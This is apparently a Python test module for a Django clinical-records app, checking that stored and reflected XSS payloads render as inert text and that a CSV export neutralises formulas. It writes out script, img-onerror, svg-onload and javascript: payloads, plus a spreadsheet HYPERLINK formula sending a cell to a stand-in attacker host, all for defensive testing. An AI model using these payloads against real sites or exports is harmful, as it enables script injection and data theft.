"""Stored and reflected XSS (issue 11, item 3): payloads saved through the services into the text fields
people type, and typed into search boxes and filters, then rendered in Chromium. Nothing may run (no
dialog, no `window.__xss`), no payload may become markup (no element it would create, no inline handler),
the policy reports no blocked attempt, and each payload shows as the text it is.

Escaping is what is tested: the Content-Security-Policy would stop an inline handler even if a template
failed to escape, so the DOM is checked for the payload's elements as well as for anything running.
"""

import csv
import datetime
import io
from urllib.parse import urlencode

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from openiop.coordination.services import consent_record
from openiop.coordination.tests.factories import therapist
from openiop.intake.services import referral_create
from openiop.notes.tests.factories import draft_note
from openiop.safety.tests.factories import full_safety_content, signed_plan
from openiop.skills.services import practice_log_add
from openiop.treatment.services import plan_create, plan_draft_save
from openiop.treatment.tests.factories import complete_content, episode_of
from openiop.utilization.tests.factories import authorization

pytestmark = pytest.mark.django_db(transaction=True)

MARK = 'window.__xss=1;alert("xss")'
SCRIPT = "<script>window.__xss=1;alert(1)</script>"
IMG = f"\"><img src=x onerror='{MARK}'>"
SVG = f"<svg onload='{MARK}'>"
TEMPLATE = "{{ 7*7 }} {% debug %}"
JS_URL = "javascript:alert(1)"
PRONOUNS = "<svg onload=alert(3)>"  # the field holds 30 characters
# What a failed escape would have put in the page.
INJECTED = "script:not([src]), img[src='x'], svg[onload], [onerror], [onload], a[href^='javascript:']"


def _login(page, live_server, user):
    """Sign `user` in by session cookie (the sign-in form is tested elsewhere): quicker for ~10 pages."""
    client = Client()
    client.force_login(user)
    page.context.clear_cookies()
    cookie = client.cookies[settings.SESSION_COOKIE_NAME]
    page.context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": live_server.url}])


def _assert_inert(page, url, *shown):
    response = page.goto(url)
    assert response.status == 200, f"{url}: HTTP {response.status}"
    assert page.evaluate("window.__xss") is None, f"a payload ran on {url}"
    assert page.locator(INJECTED).count() == 0, f"a payload became markup on {url}"
    text = page.locator("body").inner_text()
    for payload in shown:
        assert payload in text, f"{payload!r} is not shown as text on {url}"


@pytest.fixture
def stored(world):
    """The world with a payload in every free-text field the pages below render back."""
    w, today = world, timezone.localdate()
    patient = w.patient_a
    patient.preferred_name = IMG
    patient.pronouns = PRONOUNS
    patient.save(update_fields=["preferred_name", "pronouns"])
    w.track_a.name = SVG
    w.track_a.save(update_fields=["name"])
    w.referral = referral_create(
        created_by=w.ivan,
        program=w.program_a,
        source="primary_care",
        given_name="Robin",
        family_name="Payload",
        date_of_birth=datetime.date(1991, 1, 1),
        reason=f"{SCRIPT} {TEMPLATE}",
    )
    w.note = draft_note(w, content={"data": IMG, "assessment": SCRIPT, "plan": TEMPLATE})
    plan = plan_create(episode=episode_of(patient), by=w.alice)
    w.plan = plan_draft_save(plan=plan, content=complete_content(w, goal=SCRIPT), revision=1, by=w.alice)
    w.provider = therapist(name=IMG, organization=JS_URL)
    w.consent = consent_record(
        patient=patient,
        kind="part2",
        disclosing_party=f"{SVG} {TEMPLATE}",
        recipient=w.provider,
        purposes=["treatment"],
        categories=["attendance"],
        expires_on=today + datetime.timedelta(days=365),
        signed_name="Avery Synthetic",
        signed_on=today,
        by=w.alice,
    )
    content = full_safety_content()
    content["warning_signs"][0] = IMG
    content["coping_strategies"][0] = SCRIPT
    w.safety = signed_plan(patient, w.alice, content=content)
    practice_log_add(
        patient=patient,
        by=w.alice,
        practiced_on=today,
        situation=IMG,
        skill_text=TEMPLATE,
        distress_before=7,
        distress_after=3,
    )
    authorization(patient, w.alice, payer=SCRIPT, number="<b>AUTH</b>")
    return w


def test_stored_payloads_render_as_text_and_nothing_runs(page, live_server, stored):
    w = stored
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    _login(page, live_server, w.alice)
    _assert_inert(page, reverse("patients:chart", kwargs={"patient_uuid": w.patient_a.uuid}), IMG, PRONOUNS)
    _assert_inert(
        page, reverse("notes:note_detail", kwargs={"note_uuid": w.note.uuid}), IMG, SCRIPT, TEMPLATE
    )
    _assert_inert(page, reverse("treatment:plan_detail", kwargs={"plan_uuid": w.plan.uuid}), SCRIPT)
    _assert_inert(page, reverse("coordination:provider_list"), IMG, JS_URL)
    _assert_inert(page, reverse("coordination:consent_detail", kwargs={"consent_uuid": w.consent.uuid}), SVG)
    _assert_inert(page, reverse("safety:plan_detail", kwargs={"plan_uuid": w.safety.uuid}), IMG, SCRIPT)
    _assert_inert(page, reverse("skills:patient", kwargs={"patient_uuid": w.patient_a.uuid}), IMG, TEMPLATE)
    # Reflected: what was typed into the search boxes comes back in the box and the address, inert.
    _assert_inert(page, reverse("patients:list") + "?" + urlencode({"q": IMG}))
    _assert_inert(page, reverse("coordination:provider_list") + "?" + urlencode({"q": SCRIPT}))

    _login(page, live_server, w.ivan)
    _assert_inert(page, reverse("intake:referral_detail", kwargs={"referral_uuid": w.referral.uuid}), SCRIPT)
    _assert_inert(page, reverse("utilization:list"), SCRIPT)

    _login(page, live_server, w.dana)
    _assert_inert(page, reverse("operations:dashboard"))

    _login(page, live_server, w.audrey)
    filters = {"record_number": IMG, "user": SCRIPT, "action": SVG, "sort": TEMPLATE}
    _assert_inert(page, reverse("audit:report") + "?" + urlencode(filters))

    assert dialogs == []
    blocked = [message for message in page.console_errors if "Content Security Policy" in message]
    assert blocked == [], f"the policy had to block something: {blocked}"


def test_a_formula_typed_into_a_name_leaves_the_csv_export_as_text(page, live_server, world):
    """A name that looks like a spreadsheet formula is exported as text (one case: the outcomes CSV)."""
    formula = '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")'
    world.program_a.name = formula
    world.program_a.save(update_fields=["name"])
    today = timezone.localdate()
    query = {
        "program": world.program_a.uuid,
        "instrument": "PHQ-9",
        "from": (today - datetime.timedelta(days=89)).isoformat(),
        "to": today.isoformat(),
    }
    _login(page, live_server, world.dana)
    response = page.request.get(reverse("measures:outcomes_export") + "?" + urlencode(query))
    assert response.status == 200
    assert "text/csv" in response.headers["content-type"]
    cells = [cell for row in csv.reader(io.StringIO(response.text())) for cell in row if "HYPERLINK" in cell]
    assert cells, "the export should carry the program's name"
    assert all(cell == "'" + formula for cell in cells), cells


def test_the_checks_catch_a_payload_that_became_markup(page, live_server):
    page.set_content(f"<p>{IMG}</p>")
    assert page.evaluate("window.__xss") == 1
    assert page.locator(INJECTED).count() == 1
